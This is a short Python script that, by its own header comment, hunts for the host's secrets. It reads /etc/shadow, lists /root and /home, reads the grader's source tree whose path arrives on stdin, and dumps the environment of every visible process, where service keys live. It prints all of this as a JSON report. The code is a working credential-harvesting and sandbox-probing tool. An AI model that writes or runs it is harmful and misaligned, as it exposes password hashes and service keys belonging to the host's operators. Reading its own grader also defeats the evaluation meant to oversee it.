# Goes looking for the host's secrets: password hashes, root's home, users' homes, the grader's
# source tree (its path comes on stdin), the environment of every process it can see (where
# services keep their keys) and its own. Prints one JSON report of what it could read.
import json
import os
import sys

repo = sys.stdin.read().strip()


def look(path):
    try:
        if os.path.isdir(path):
            return {"listing": sorted(os.listdir(path))}
        with open(path, "rb") as file:
            return {"content": file.read(4096).decode("utf-8", "replace")}
    except OSError as error:
        return {"error": type(error).__name__}


report = {"environment": dict(os.environ)}
for path in ["/etc/shadow", "/root", "/home", repo, os.path.join(repo, "package.json")]:
    report[path] = look(path)
for pid in filter(str.isdigit, os.listdir("/proc")):
    report[f"/proc/{pid}/environ"] = look(f"/proc/{pid}/environ")
print(json.dumps(report))
